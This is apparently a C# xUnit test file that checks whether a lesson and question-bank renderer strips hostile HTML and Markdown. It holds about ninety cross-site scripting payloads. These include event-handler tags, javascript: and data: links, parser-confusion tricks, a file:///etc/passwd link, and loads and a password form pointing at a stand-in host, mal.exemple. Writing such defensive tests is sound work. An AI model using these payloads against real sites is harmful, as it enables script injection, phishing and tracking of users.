using AngleSharp.Html.Parser;
using Tn.Content.Documents;
using Tn.Content.Rendering;

namespace Tn.Content.Tests.Rendering;

/// <summary>What people try: none of it may leave the renderer alive, wherever it is written.</summary>
public sealed class HostileMarkdown
{
    private static readonly string[] Payloads =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://mal.exemple/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"/a.png\" onload=alert(1)>",
        "<img src='https://mal.exemple/pixel.gif'>",
        "![suivi](https://mal.exemple/pixel.gif)",
        "![x](//mal.exemple/p.gif)",
        "![x](data:image/svg+xml;base64,PHN2Zy8+)",
        "![x](javascript:alert(1))",
        "![x](/ok.png \"a\" onerror=alert(1))",
        "<svg onload=alert(1)></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<base href=\"https://mal.exemple/\">",
        "<meta http-equiv=refresh content=\"0;url=https://mal.exemple\">",
        "<link rel=stylesheet href=https://mal.exemple/x.css>",
        "<style>@import 'https://mal.exemple/x.css';</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<p style=\"position:fixed;inset:0\">x</p>",
        "<form action=https://mal.exemple><input name=motdepasse><button>Entrer</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<select onfocus=alert(1) autofocus></select>",
        "<textarea onfocus=alert(1) autofocus></textarea>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)></audio>",
        "<body onload=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"//mal.exemple/\">x</a>",
        "<a href=\"/\\mal.exemple/\">x</a>",
        "<a href=\"http://mal.exemple/\">x</a>",
        "<a href=# onclick=alert(1)>x</a>",
        "<a id=contenu name=contenu>x</a>",
        "<a href=\"https://exemple.fr\" target=_blank rel=opener>x</a>",
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](javascript&#58;alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](  javascript:alert(1) )",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)",
        "[x](file:///etc/passwd)",
        "[x](https://exemple.fr \"titre\\\" onmouseover=alert(1) x=\\\"\")",
        "<javascript:alert(1)>",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "# titre {onclick=alert(1)}",
        "# titre {#contenu .tn-button}",
        "texte {onmouseover=alert(1)}",
        "```html {onclick=alert(1)}\nx\n```",
        "```\"><img/src=x/onerror=alert(1)>\nx\n```",
        "~~~<script>alert(1)</script>\nx\n~~~",
        "::: cas onclick=alert(1)\nx\n:::",
        "::: \"><script>alert(1)</script>\nx\n:::",
        ":::video javascript:alert(1)\nx\n:::",
        ":::video https://exemple.fr/\"><script>alert(1)</script>\nx\n:::",
        "::span::{onclick=alert(1)}",
        "| a {onclick=alert(1)} | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
        "x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))",
        "terme\n:   <script>alert(1)</script>",
        "- [ ] <input type=text name=motdepasse>",
        "> <iframe src=https://mal.exemple></iframe>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<title><img src=x onerror=alert(1)></title>",
        "<p class=\"tn-visually-hidden tn-button--danger\">x</p>",
        "<span data-bind=\"evil\" aria-hidden=true hidden>x</span>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\<script>alert(1)\\</script>",
        "<a href='https://exemple.fr' ping='https://mal.exemple'>x</a>",
        "<img srcset='https://mal.exemple/a 1x' src='/a.png'>",
        "<table background='https://mal.exemple/a'><tr><td>x</td></tr></table>",
        "<q cite='javascript:alert(1)'>x</q>",
        "<ins cite='javascript:alert(1)'>x</ins>",
    ];

    private static readonly HashSet<string> Attributes = ["href", "src", "alt", "title", "id", "class", "colspan", "rowspan", "start", "rel", "aria-label", "scope", "tabindex", "role"];

    private static readonly HashSet<string> Elements =
    [
        "p", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd", "blockquote", "pre", "code", "em", "strong", "b", "i", "del", "ins", "sub", "sup", "a", "img",
        "table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption", "hr", "br", "div", "span", "abbr", "kbd", "mark", "cite", "q", "small",
    ];

    public static TheoryData<string> Corpus() => [.. Payloads];

    [Theory]
    [MemberData(nameof(Corpus))]
    public async Task In_a_lesson(string payload)
    {
        foreach (var text in new[] { payload, $"## Titre\n\n{payload}\n\nFin.", $"- {payload.Replace("\n", "\n  ")}", $"> {payload.Replace("\n", "\n> ")}", $":::cas\n{payload}\n:::", $":::animateur\n{payload}\n:::" })
        {
            var result = await Renderers.Body.RenderAsync(ContentTypes.Lesson, text, "essai.md", default);
            AssertHarmless(string.Concat(result.Body?.Parts.Select(part => part.Html) ?? []));
        }
    }

    [Theory]
    [MemberData(nameof(Corpus))]
    public async Task In_a_question(string payload)
    {
        var safe = string.Concat(payload.Replace("\n\n", "\n").Select(letter => "\\~=#{}:".Contains(letter) ? $"\\{letter}" : $"{letter}"));
        foreach (var format in new[] { string.Empty, "[html]", "[markdown]", "[plain]" })
        {
            var text = $"::q1::{format}{safe} ? {{\n~{safe} un#{safe}\n={safe} deux#{safe}\n~trois#x\n####{safe}\n}}\n";
            var result = await Renderers.Body.RenderAsync(ContentTypes.QuestionBank, text, "essai.gift", default);
            var question = Assert.Single(result.Body!.Questions);
            AssertHarmless(question.StemHtml + question.GeneralFeedbackHtml + string.Concat(question.Choices.Select(choice => choice.TextHtml + choice.FeedbackHtml)));
        }
    }

    [Fact]
    public void The_corpus_is_large_enough() => Assert.True(Payloads.Distinct().Count() >= 60);

    [Fact]
    public void The_check_itself_sees_a_live_script()
    {
        Assert.ThrowsAny<Xunit.Sdk.XunitException>(() => AssertHarmless("<img src=x onerror=alert(1)>"));
        Assert.ThrowsAny<Xunit.Sdk.XunitException>(() => AssertHarmless("<a href=\"javascript:alert(1)\">x</a>"));
        Assert.ThrowsAny<Xunit.Sdk.XunitException>(() => AssertHarmless("<p id=contenu>x</p>"));
    }

    /// <summary>Read again as a browser would, only known elements and attributes are left, and every address is harmless.</summary>
    private static void AssertHarmless(string html)
    {
        using var document = new HtmlParser().ParseDocument($"<body>{html}</body>");
        Assert.Empty(document.Head!.Children);
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, Elements);
            Assert.All(element.Attributes, attribute => Assert.Contains(attribute.Name, Attributes));
            Assert.All(element.ClassList, name => Assert.Matches("^(tn-block(__title|--[a-z-]+)?|tn-table(-scroll)?|footnote(s|-ref|-back-ref))$", name));
            Assert.Matches("^$|^s[-a-z0-9]*$|^fn(ref)?:", element.Id ?? string.Empty);
            Assert.Matches("^$|^(https://|mailto:|#|/(?![/\\\\])|[A-Za-z0-9._-]+($|[/?#]))", element.GetAttribute("href") ?? string.Empty);
            Assert.Matches("^$|^/[A-Za-z0-9]", element.GetAttribute("src") ?? string.Empty);
            if (element.GetAttribute("href")?.StartsWith("https:", StringComparison.Ordinal) == true)
            {
                Assert.Equal("noopener", element.GetAttribute("rel"));
            }
        }
    }
}
